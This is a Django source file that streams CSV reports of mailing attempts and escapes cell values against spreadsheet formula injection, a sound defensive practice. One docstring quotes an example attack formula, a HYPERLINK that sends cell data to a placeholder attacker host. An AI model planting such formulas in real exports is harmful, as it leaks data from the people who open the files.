"""Streamed CSV reports: every run (attempt) a person may see, with its outcome.

Rows are written while the database cursor is read (``iterator``), so 100,000
attempts never sit in memory at once.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from typing import Any

from django.contrib import admin
from django.db.models import QuerySet
from django.http import HttpRequest, StreamingHttpResponse
from django.utils import timezone
from django.utils.translation import gettext
from django.utils.translation import gettext_lazy as _

from apps.mailings.models import Attempt

CHUNK = 2000


class _Echo:
    """A file-like object whose write returns the line for the response to send."""

    def write(self, value: str) -> str:
        return value


def attempt_report_header() -> list[str]:
    return [
        gettext("mailing id"),
        gettext("mailing"),
        gettext("attempted at"),
        gettext("finished at"),
        gettext("status"),
        gettext("recipients"),
        gettext("sent"),
        gettext("failed"),
        gettext("skipped"),
        gettext("server response"),
    ]


def attempt_report_rows(attempts: QuerySet[Attempt]) -> Iterator[list]:
    in_progress = gettext("in progress")
    rows = (
        attempts.select_related("mailing__message")
        .order_by("-attempted_at", "-pk")
        .iterator(chunk_size=CHUNK)
    )
    for attempt in rows:
        yield [
            attempt.mailing_id,
            attempt.mailing.message.subject,
            timezone.localtime(attempt.attempted_at).isoformat(),
            timezone.localtime(attempt.finished_at).isoformat()
            if attempt.finished_at
            else "",
            attempt.get_status_display() if attempt.status else in_progress,
            attempt.total_count,
            attempt.sent_count,
            attempt.failed_count,
            attempt.skipped_count,
            attempt.server_response,
        ]


# What makes a spreadsheet program read a cell as a formula (OWASP "CSV injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` as a cell no spreadsheet program runs as a formula.

    Every export (CSV or XLSX) passes its cells through here: client names and
    addresses, subjects and server replies come from outside, and a cell such as
    ``=HYPERLINK("http://evil.example/?leak="&A2)`` would otherwise run when the
    person who exported opens the file. A leading apostrophe is the usual escape:
    spreadsheets show the text as written, and the import takes it off again.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def spreadsheet_unescape(value: str) -> str:
    """The text ``spreadsheet_safe`` escaped, as it was (for imports of exports)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


def _csv_lines(header: list[str], rows: Iterable[list]) -> Iterator[str]:
    writer = csv.writer(_Echo())
    # A BOM so that spreadsheet programs read the file as UTF-8.
    yield "\ufeff" + writer.writerow(header)
    for row in rows:
        yield writer.writerow([spreadsheet_safe(v) for v in row])


def attempt_report_response(
    attempts: QuerySet[Attempt], *, filename: str = "attempts.csv"
) -> StreamingHttpResponse:
    """A streamed CSV of ``attempts`` (already limited to what the person may see)."""
    response = StreamingHttpResponse(
        _csv_lines(attempt_report_header(), attempt_report_rows(attempts)),
        content_type="text/csv; charset=utf-8",
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


@admin.action(description=_("Export the selected runs"))
def export_attempts_csv(
    modeladmin: admin.ModelAdmin[Attempt],
    request: HttpRequest,
    queryset: QuerySet[Attempt],
) -> StreamingHttpResponse:
    """A changelist action for AttemptAdmin: the selected runs as a streamed CSV.

    The queryset comes from the admin's own ``get_queryset`` (selectors), so it
    holds only attempts the person may see.
    """
    return attempt_report_response(queryset)
